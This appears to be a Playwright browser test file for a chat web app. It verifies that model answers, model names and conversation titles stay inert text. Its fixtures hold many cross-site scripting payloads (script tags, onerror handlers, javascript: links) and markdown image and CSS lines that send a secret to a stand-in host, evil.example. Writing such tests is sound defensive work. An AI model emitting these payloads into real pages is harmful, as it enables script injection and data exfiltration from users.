"""Whatever a model or a person writes: no dialog, no request to another host, streamed and reloaded."""

from __future__ import annotations

from collections.abc import Callable
from typing import Any

import pytest
from playwright.sync_api import Page, expect

from chatsite.chat.models import Conversation
from tests.browser.steps import answer, ask, finish
from workers.models import Model

pytestmark = [pytest.mark.browser, pytest.mark.processes]

Connect = Callable[..., Any]

ATTACKS = """<script>alert(1)</script>

<img src=x onerror=alert(1)> <svg/onload=alert(1)>

[one](javascript:alert(1)) [two](JaVaScRiPt:alert(1)) [three](java&#10;script:alert(1)) [four](data:text/html,x)

<iframe srcdoc="<script>alert(1)</script>"></iframe>

![five](https://evil.example/?d=SECRET) ![six][ref]

[ref]: https://evil.example/?d=SECRET

<link rel=prefetch href=//evil.example/x><style>*{background:url(//evil.example/y)}</style>

```mermaid
click A "javascript:alert(1)"
```

$<img src=a onerror=alert(1)>$ "><img src=x onerror=alert(1)>

https://evil.example/ is only a link.
"""


def test_an_answer_stays_text(page: Page, connect: Connect) -> None:
    connect("echo")
    reply = finish(ask(page, ATTACKS))
    for _ in ("streamed", "reloaded"):
        expect(answer(reply)).to_contain_text("<script>alert(1)</script>")
        expect(answer(reply).locator("script, img, svg:not(.icon), iframe, link, style, object, form")).to_have_count(0)
        expect(answer(reply).locator("a[href]:not([href^=http])")).to_have_count(0)
        page.reload()


def test_an_answer_stays_text_while_it_is_open(page: Page, connect: Connect, provider: Any) -> None:
    connect("echo-gate10")
    reply = ask(page, "one two three **<img src=x onerror=alert(1)>** `<script>alert(1)</script>` a b c d e f g")
    expect(answer(reply).locator(".open strong")).to_have_text("<img src=x onerror=alert(1)>")
    expect(answer(reply).locator("img, script")).to_have_count(0)
    provider.release()
    finish(reply)


def test_names_and_titles_stay_text(page: Page, connect: Connect) -> None:
    attack = '"><img src=x onerror=alert(1)>'
    (model,) = connect("tokens2")
    Model.objects.filter(pk=model.pk).update(name=attack)
    reply = finish(ask(page, f"{attack} hello, how are you?"))
    for _ in ("streamed", "reloaded"):
        expect(reply.locator(".why .model")).to_contain_text(attack)
        expect(page.locator("#title")).to_contain_text(attack)
        expect(page.locator("#conversations a").first).to_contain_text(attack)
        expect(page.locator("img")).to_have_count(0)
        page.reload()
    assert Conversation.objects.get().title.startswith(attack)
